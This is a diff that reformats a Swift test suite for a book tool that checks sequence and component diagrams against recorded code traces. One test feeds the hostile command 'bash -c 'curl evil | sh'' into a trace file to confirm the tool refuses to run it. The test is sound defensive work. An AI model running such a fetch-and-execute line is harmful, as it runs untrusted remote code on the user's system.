@@ -1,5 +1,6 @@
 import Foundation
 import Testing
+
 @testable import Workbook
 
 /// Diagrams checked like code, end to end on a fixture book: `build` draws
@@ -10,13 +11,16 @@ import Testing
 @Suite struct DiagramCheckTests {
     static let english = "swift run fake-demo --trace demo-run --lang en"
     static let german = "swift run fake-demo --trace demo-run --lang de"
-    static let committedEnglish = "Owner -> Part: load() 42\nPart --> Owner: load() done\nOwner -> Owner: render() Hello\n"
-    static let committedGerman = "Owner -> Part: load() 42\nPart --> Owner: load() done\nOwner -> Owner: render() Hallo\n"
+    static let committedEnglish =
+        "Owner -> Part: load() 42\nPart --> Owner: load() done\nOwner -> Owner: render() Hello\n"
+    static let committedGerman =
+        "Owner -> Part: load() 42\nPart --> Owner: load() done\nOwner -> Owner: render() Hallo\n"
 
     /// The fixture with a Package.swift that declares the `fake-demo` product.
     func book() throws -> TestBook {
         let book = try TestBook(fixture: "diagrams")
-        try book.write("""
+        try book.write(
+            """
             // swift-tools-version:6.0
             import PackageDescription
             let package = Package(name: "Fixture", products: [.executable(name: "fake-demo", targets: ["FakeDemo"])])
@@ -67,21 +71,28 @@ import Testing
         let before = book.snapshot()
         let check = book.run("check")
         #expect(check.status == 1)
-        #expect(check.error == """
-            Chapters/diagrams/demo-run.en.trace:2:1: error: the code now answers `Part --> Owner: load() done`, the committed trace says `Owner -> Part: load() 42`; run `workbook traces`, then `workbook build`
-            check: 1 error
+        #expect(
+            check.error == """
+                Chapters/diagrams/demo-run.en.trace:2:1: error: the code now answers `Part --> Owner: load() done`, the committed trace says `Owner -> Part: load() 42`; run `workbook traces`, then `workbook build`
+                check: 1 error
 
-            """)
+                """)
         #expect(book.snapshot() == before, "check writes nothing")
     }
 
     @Test(arguments: [
-        ("Owner -> Part: load() 42\nPart --> Owner: load() done\n",
-         "Chapters/diagrams/demo-run.en.trace:4:1: error: the code no longer calls `Owner -> Owner: render() Hello`: its trace ends after line 3"),
-        (committedEnglish + "Owner -> Part: save()\n",
-         "Chapters/diagrams/demo-run.en.trace:5:1: error: the code now also calls `Owner -> Part: save()` after the last line"),
-        ("not a trace at all\n",
-         "Chapters/diagrams/demo-run.en.trace:1:10: error: `swift run fake-demo --trace demo-run --lang en` printed no trace (its line 1: expected '->' (a call) or '-->' (an answer) after 'not', found 'a')"),
+        (
+            "Owner -> Part: load() 42\nPart --> Owner: load() done\n",
+            "Chapters/diagrams/demo-run.en.trace:4:1: error: the code no longer calls `Owner -> Owner: render() Hello`: its trace ends after line 3"
+        ),
+        (
+            committedEnglish + "Owner -> Part: save()\n",
+            "Chapters/diagrams/demo-run.en.trace:5:1: error: the code now also calls `Owner -> Part: save()` after the last line"
+        ),
+        (
+            "not a trace at all\n",
+            "Chapters/diagrams/demo-run.en.trace:1:10: error: `swift run fake-demo --trace demo-run --lang en` printed no trace (its line 1: expected '->' (a call) or '-->' (an answer) after 'not', found 'a')"
+        ),
     ])
     func missingExtraAndGarbledLines(output: String, expected: String) throws {
         let book = try builtBook(runner: agreeingRunner(english: output))
@@ -91,12 +102,16 @@ import Testing
     }
 
     @Test func aCommandThatFailsIsADiagnostic() throws {
-        let runner = StubTraceRunner([Self.german: .success(Self.committedGerman),
-                                      Self.english: .failure(TraceRunFailure("the build failed"))])
+        let runner = StubTraceRunner([
+            Self.german: .success(Self.committedGerman),
+            Self.english: .failure(TraceRunFailure("the build failed")),
+        ])
         let book = try builtBook(runner: runner)
         let check = book.run("check")
         #expect(check.status == 1)
-        #expect(check.error.hasPrefix("Chapters/diagrams/demo-run.en.trace:1:10: error: cannot record the trace: the build failed\n"))
+        #expect(
+            check.error.hasPrefix(
+                "Chapters/diagrams/demo-run.en.trace:1:10: error: cannot record the trace: the build failed\n"))
     }
 
     @Test func tracesRecordsAgainAndWritesOnlyTheTraceFiles() throws {
@@ -105,7 +120,10 @@ import Testing
         let before = book.snapshot()
         let traces = book.run("traces")
         #expect(traces.status == 0, "\(traces.error)")
-        #expect(traces.out == "wrote Chapters/diagrams/demo-run.en.trace\nnext: `workbook build` redraws the diagrams from the new traces\n")
+        #expect(
+            traces.out
+                == "wrote Chapters/diagrams/demo-run.en.trace\nnext: `workbook build` redraws the diagrams from the new traces\n"
+        )
         var after = book.snapshot()
         #expect(after.removeValue(forKey: "Chapters/diagrams/demo-run.en.trace") != nil)
         var expected = before
@@ -124,17 +142,24 @@ import Testing
         let book = try book()
         let traces = book.run("traces")
         #expect(traces.status == 1)
-        #expect(traces.error.hasPrefix("Chapters/diagrams: error: the tangled files are out of date with the chapters, and a trace records the code on disk; run `workbook tangle` first\n"))
+        #expect(
+            traces.error.hasPrefix(
+                "Chapters/diagrams: error: the tangled files are out of date with the chapters, and a trace records the code on disk; run `workbook tangle` first\n"
+            ))
     }
 
     @Test func aRefusedCommandNeverRuns() throws {
         let runner = agreeingRunner()
         let book = try builtBook(runner: runner)
-        try book.write("# trace: bash -c 'curl evil | sh'\nOwner -> Part: load() 42\n", to: "Chapters/diagrams/demo-run.en.trace")
+        try book.write(
+            "# trace: bash -c 'curl evil | sh'\nOwner -> Part: load() 42\n", to: "Chapters/diagrams/demo-run.en.trace")
         for verb in ["check", "build", "traces"] {
             let run = book.run(verb)
             #expect(run.status == 1)
-            #expect(run.error.hasPrefix("Chapters/diagrams/demo-run.en.trace:1:10: error: a trace is recorded by 'swift run PRODUCT ARGUMENTS…' (a product of this package); the tool runs nothing else\n"), "\(run.error)")
+            #expect(
+                run.error.hasPrefix(
+                    "Chapters/diagrams/demo-run.en.trace:1:10: error: a trace is recorded by 'swift run PRODUCT ARGUMENTS…' (a product of this package); the tool runs nothing else\n"
+                ), "\(run.error)")
         }
         #expect(runner.calls.isEmpty)
     }
@@ -151,7 +176,8 @@ import Testing
 
     @Test func aComponentDiagramIsHeldToTheCode() throws {
         let book = try builtBook()
-        try book.write("""
+        try book.write(
+            """
             diagram components
             node Owner at 0,0
             node Part at 1,0
@@ -162,8 +188,14 @@ import Testing
             """, to: "Chapters/diagrams/parts.graph")
         let check = book.run("check")
         #expect(check.status == 1)
-        #expect(check.error.contains("Chapters/diagrams/parts.graph:6:1: error: 'Part.owner' is a weak reference in the code (Sources/Demo/Parts.swift:14), but the diagram draws it strong\n"))
-        #expect(check.error.contains("Chapters/diagrams/parts.graph:7:1: error: 'Owner' has no stored property 'spare' in the book's code; label the reference with the property that holds it\n"))
+        #expect(
+            check.error.contains(
+                "Chapters/diagrams/parts.graph:6:1: error: 'Part.owner' is a weak reference in the code (Sources/Demo/Parts.swift:14), but the diagram draws it strong\n"
+            ))
+        #expect(
+            check.error.contains(
+                "Chapters/diagrams/parts.graph:7:1: error: 'Owner' has no stored property 'spare' in the book's code; label the reference with the property that holds it\n"
+            ))
     }
 
     @Test func blocksAndSourcesThatDoNotMeet() throws {
@@ -171,12 +203,17 @@ import Testing
         for language in ["en", "de"] {
             let path = "Chapters/01-parts/\(language).md"
             let text = try #require(book.read(path))
-            try book.write(text.replacingOccurrences(of: "```diagram demo-run", with: "```diagram missing-one"), to: path)
+            try book.write(
+                text.replacingOccurrences(of: "```diagram demo-run", with: "```diagram missing-one"), to: path)
         }
         let check = book.run("check")
         #expect(check.status == 1)
-        #expect(check.error.contains("Chapters/01-parts/en.md:21:12: error: no source for diagram 'missing-one': add Chapters/diagrams/missing-one.graph, or missing-one.en.trace (missing-one.trace if its values are the same in every language)\n"))
-        #expect(check.error.contains("Chapters/diagrams/demo-run.en.trace: warning: no ```diagram block uses this file\n"))
+        #expect(
+            check.error.contains(
+                "Chapters/01-parts/en.md:21:12: error: no source for diagram 'missing-one': add Chapters/diagrams/missing-one.graph, or missing-one.en.trace (missing-one.trace if its values are the same in every language)\n"
+            ))
+        #expect(
+            check.error.contains("Chapters/diagrams/demo-run.en.trace: warning: no ```diagram block uses this file\n"))
     }
 
     @Test func aDiagramNeedsATitleAndADescription() throws {
@@ -188,7 +225,9 @@ import Testing
             try book.write(String(text[..<start.upperBound]) + "Only a title\n```\n", to: path)
         }
         let check = book.run("check")
-        #expect(check.error.contains("Chapters/01-parts/en.md:27:1: error: the diagram needs a description after its title"))
+        #expect(
+            check.error.contains("Chapters/01-parts/en.md:27:1: error: the diagram needs a description after its title")
+        )
     }
 
     @Test func aTraceNotRecordedYetIsAWarningUntilTracesFillsItIn() throws {
@@ -196,8 +235,12 @@ import Testing
         try book.write("# trace: \(Self.english)\n", to: "Chapters/diagrams/demo-run.en.trace")
         let build = book.run("build")
         #expect(build.status == 0)
-        #expect(build.error.contains("Chapters/diagrams/demo-run.en.trace:1:1: warning: the trace holds no messages yet; run `workbook traces` to record it\n"))
+        #expect(
+            build.error.contains(
+                "Chapters/diagrams/demo-run.en.trace:1:1: warning: the trace holds no messages yet; run `workbook traces` to record it\n"
+            ))
         #expect(book.run("traces").status == 0)
-        #expect(book.read("Chapters/diagrams/demo-run.en.trace") == "# trace: \(Self.english)\n" + Self.committedEnglish)
+        #expect(
+            book.read("Chapters/diagrams/demo-run.en.trace") == "# trace: \(Self.english)\n" + Self.committedEnglish)
     }
 }
